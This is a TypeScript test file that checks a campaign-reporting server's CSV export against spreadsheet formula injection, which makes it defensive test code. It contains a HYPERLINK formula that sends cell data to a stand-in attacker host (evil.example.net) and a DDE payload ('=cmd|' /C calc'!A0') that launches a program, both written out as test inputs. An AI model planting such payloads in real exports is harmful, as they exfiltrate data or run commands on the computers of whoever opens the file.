import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { RunningServer } from '../../../src/server/startServer'
import type { Headers } from '../../helpers/accounts'

import { bodyToLexical } from '../../../src/packs/lexical'
import { signInAs } from '../../helpers/accounts'
import { type BundledIds, importBundledCampaigns } from '../../helpers/bundledCampaigns'
import { messageOf } from '../../helpers/delivery'
import { useDeploymentK } from '../../helpers/deploymentK'
import { startTestServer } from '../../helpers/testServer'

const FORMULA = '=HYPERLINK("https://evil.example.net/?"&A1,"Open the report")'

/** An editor's text, or a crafted filter, must never reach an evaluator's spreadsheet as a formula. */
describe('CSV exports', () => {
  useDeploymentK(5)
  let server: RunningServer
  let ids: BundledIds
  let evaluator: Headers

  beforeAll(async () => {
    server = await startTestServer()
    ids = await importBundledCampaigns(server.payload)
    evaluator = (await signInAs(server.payload, server.url, 'evaluator')).headers
    await server.payload.create({
      collection: 'campaigns',
      data: {
        audiences: [ids.audiences.tourists as number],
        body: bodyToLexical([{ paragraph: 'Text.' }]) as never,
        period: { start: '2026-01-01T00:00:00.000Z' },
        slug: 'formula-campaign',
        title: FORMULA,
      },
    })
  })
  afterAll(async () => {
    await server?.close()
  })

  it('neutralises a cell a spreadsheet would read as a formula (OWASP), keeping numbers numbers', async () => {
    const response = await fetch(
      `${server.url}/api/reports/campaigns/formula-campaign?format=csv&k=5`,
      {
        headers: evaluator,
      },
    )
    expect(response.status).toBe(200)
    const rows = parse(await response.text(), { columns: true }) as Record<string, string>[]
    const title = rows.find((row) => row.measure === 'campaign.title')
    expect(title?.value).toBe(`'${FORMULA}`)
    for (const row of rows) expect(row.value, row.measure).not.toMatch(/^[=+@\t\r]/)
  })

  it('echoes a filter only once it is valid, so none smuggles a formula into the file', async () => {
    for (const [filter, message] of [
      [`partner=${encodeURIComponent("=cmd|' /C calc'!A0")}`, /"partner" must be a partner's id/],
      [`audience=${encodeURIComponent('@SUM(1+1)')}`, /"audience" must be an audience slug/],
    ] as const) {
      const response = await fetch(
        `${server.url}/api/reports/campaigns/formula-campaign?format=csv&${filter}`,
        { headers: evaluator },
      )
      expect(response.status, filter).toBe(400)
      expect(messageOf(await response.json())).toMatch(message)
    }
  })
})
